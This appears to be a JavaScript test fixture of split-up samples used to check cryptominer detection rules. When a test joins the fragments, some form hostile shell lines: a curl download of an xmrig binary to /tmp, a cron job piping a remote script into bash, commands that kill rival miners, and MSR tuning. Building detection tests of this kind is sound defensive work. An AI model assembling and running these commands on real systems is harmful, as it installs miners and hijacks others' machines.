/** Harmless samples, in pieces that only the test puts together (see ../make-samples.mjs). */
export const samples = [
  {
    rule: 'Miner_Stratum_Client', as: 'executable',
    lines: [
      ["stra", "tum+tcp://pool.example:3333"],
      ["min", "ing.subscribe"],
      ["min", "ing.authorize"],
    ],
    without: 0,
  },
  {
    rule: 'Miner_Stratum_JsonRpc', as: 'executable',
    lines: [
      ["\"met", "hod\":\"log", "in\""],
      ["keep", "alived"],
      ["job", "_id"],
      ["seed", "_hash"],
    ],
    without: 0,
  },
  {
    rule: 'Miner_XMRig_Config',
    lines: [
      ["{ \"donate", "-level\": 1,"],
      ["\"ran", "domx\": { \"init\": -1 }, \"huge", "-pages\": true,"],
      ["\"po", "ols\": [ { \"url\": \"pool.example:443\" } ] }"],
    ],
    without: 0,
  },
  {
    rule: 'Miner_XMRig_Binary', as: 'executable',
    lines: [
      ["--don", "ate-level"],
      ["--ran", "domx-1gb-pages"],
      ["--cpu-max", "-threads-hint"],
      ["xm", "rig"],
    ],
    without: 0,
  },
  {
    rule: 'Miner_RandomX_Engine', as: 'executable',
    lines: [
      ["rando", "mx_create_vm"],
      ["rando", "mx_init_cache"],
      ["po", "ol.example.org:3333"],
    ],
    without: 0,
  },
  {
    rule: 'Miner_Ethash_Engine', as: 'executable',
    lines: [
      ["eth_sub", "mitWork"],
      ["eth_get", "Work"],
      ["clCreate", "CommandQueue"],
    ],
    without: 0,
  },
  {
    rule: 'Miner_Install_Script',
    lines: [
      ["#!/bin/sh"],
      ["cu", "rl -sL http://192.0.2.7/xm", "rig -o /tmp/.x"],
      ["/tmp/.x -o stra", "tum+tcp://pool.example:3333"],
    ],
    without: 0,
  },
  {
    rule: 'Miner_Competitor_Killer',
    lines: [
      ["#!/bin/bash"],
      ["pki", "ll -f xm", "rig"],
      ["pki", "ll -9 -f kdev", "tmpfsi"],
      ["ps aux | grep stra", "tum | awk '{print $2}' | xargs ki", "ll -9"],
    ],
    without: 0,
  },
  {
    rule: 'Miner_MSR_Tuning',
    lines: [
      ["#!/bin/bash"],
      ["mod", "probe msr"],
      ["wr", "msr -a 0x1a4 0xf"],
    ],
    without: 0,
  },
  {
    rule: 'Miner_HugePages_Pool',
    lines: [
      ["#!/bin/sh"],
      ["sysctl -w vm.nr_huge", "pages=1280"],
      ["./a -o stra", "tum+tcp://198.51.100.7:4444"],
    ],
    without: 0,
  },
  {
    rule: 'Miner_Wallet_Monero_With_Pool',
    lines: [
      ["-u 4", "8AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"],
      ["sup", "portxmr"],
    ],
    without: 0,
  },
  {
    rule: 'Miner_Process_Hider', as: 'executable',
    lines: [
      ["read", "dir"],
      ["dl", "sym"],
      ["/proc/self/", "fd/%d"],
      ["/proc/%s/", "stat"],
      ["mi", "nerd"],
    ],
    without: 0,
  },
  {
    rule: 'Miner_Cron_Persistence',
    lines: [
      ["*/5 * * * * cu", "rl -fsSL http://192.0.2.7/a.sh | ba", "sh"],
      ["# end"],
    ],
    without: 0,
  },
  {
    rule: 'Miner_GPU_Options', as: 'executable',
    lines: [
      ["--dag-load", "-mode"],
      ["--farm-", "recheck"],
      ["stra", "tum"],
    ],
    without: 0,
  },
  {
    rule: 'Miner_Go_Worm_Loader', as: 'executable',
    lines: [
      ["Go bu", "ild ID: \"x\""],
      ["redis_", "brute"],
      ["start", "Miner"],
    ],
    without: 0,
  },
  {
    rule: 'Miner_Browser_Service_Worker',
    lines: [
      ["new Crypto", "Loot.Anon", "ymous('k');"],
      ["x"],
    ],
    without: 0,
  },
];
